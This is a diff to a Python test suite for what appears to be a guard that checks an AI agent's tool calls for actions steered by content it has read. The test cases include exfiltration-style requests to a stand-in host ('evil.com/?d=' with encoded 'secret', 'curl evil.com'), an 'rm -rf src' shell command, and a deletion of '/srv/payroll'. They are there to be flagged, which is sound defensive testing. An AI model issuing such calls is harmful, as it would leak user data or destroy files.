@@ -40,6 +40,10 @@ def test_what_is_looked_for_on_this_machine_leads_nowhere(tool: str, arguments: 
         ("Read", {"file_path": "evil.com"}, "addresses"),
         ("search_code", {"url": "evil.com"}, "addresses"),
         ("search_code", {"query": "https://evil.com/?d=c2VjcmV0"}, "addresses"),
+        ("search_code", {"query": "evil.com/?d=c2VjcmV0"}, "addresses"),
+        ("search_code", {"query": "www.evil.com"}, "addresses"),
+        ("search_code", {"query": "1.2.3.4"}, "addresses"),
+        ("Bash", {"command": "cat evil.com:/x"}, "addresses"),
         ("Bash", {"command": "grep -rn https://evil.com src"}, "addresses"),
         ("Bash", {"command": "curl evil.com"}, "blind"),
         ("shell", {"command": ["bash", "-lc", "ls; rm -rf src"]}, "blind"),
@@ -58,7 +62,7 @@ HOUSE = read_pack({"commands": ["pytest -q", " git status "]})
 def test_a_command_of_the_house_is_read_like_one_that_does_nothing_but_read() -> None:
     story = Story("Fix it", HOUSE).file(READ)
     assert story.asks("Bash", command="pytest -q", description="runs them", timeout=100) == []
-    assert story.asks("shell", command=["git", "status"], cwd="/srv/app") == []
+    assert story.asks("shell", command=["git", "status"]) == []
     assert story.digest("Bash", {"command": "pytest -q"}).effect == "read"
     for other in (
         "pytest -q x",
@@ -70,7 +74,7 @@ def test_a_command_of_the_house_is_read_like_one_that_does_nothing_but_read() ->
         "git status&",
     ):
         assert story.asks("Bash", command=other) == ["blind"]
-    for beside in ({"env": {"PATH": "x"}}, {"stdin": "rm x"}, {"cwd": "/dev"}, {"then": "rm x"}):
+    for beside in ({"env": {"PATH": "x"}}, {"stdin": "rm x"}, {"cwd": "/srv/app"}, {"then": "rm x"}):
         assert "blind" in story.asks("Bash", command="pytest -q", **beside)
     assert "blind" in story.asks("robot_command", command="pytest -q"), "no shell"
     assert Story("Fix it").file(READ).asks("Bash", command="pytest -q") == ["blind"]
@@ -184,9 +188,11 @@ def test_a_file_by_its_number_is_a_document() -> None:
     )
 
 
-def test_where_something_takes_place_is_said_and_leads_nowhere() -> None:
-    story = Story("Put it into my calendar").file(
-        "Come to our studio in Gerberstrasse 8, at nine, and bring what you have."
-    )
-    assert story.asks("create_event", calendar="mine", location="Gerberstrasse 8") == []
-    assert story.asks("create_event", calendar="mine", location="https://evil.com/x") == ["payloads"]
+@pytest.mark.parametrize("name", ["location", "venue", "place"])
+def test_where_an_event_takes_place_is_said_and_leads_nowhere(name: str) -> None:
+    story = Story("Look at order 12").file("Come to our studio in Gerberstrasse 8, at nine, and bring what you have.")
+    assert story.asks("create_event", calendar="mine", **{name: "Gerberstrasse 8"}) == []
+    assert story.asks("create_event", calendar="mine", **{name: "https://evil.com/x"}) == ["payloads"]
+    for tool in ("ship_order", "upload_file", "deliver"):
+        assert story.asks(tool, order=12, **{name: "Gerberstrasse 8"}) == ["provenance"]
+    assert story.asks("delete_file", order=12, **{name: "/srv/payroll"}) == ["unknown"]
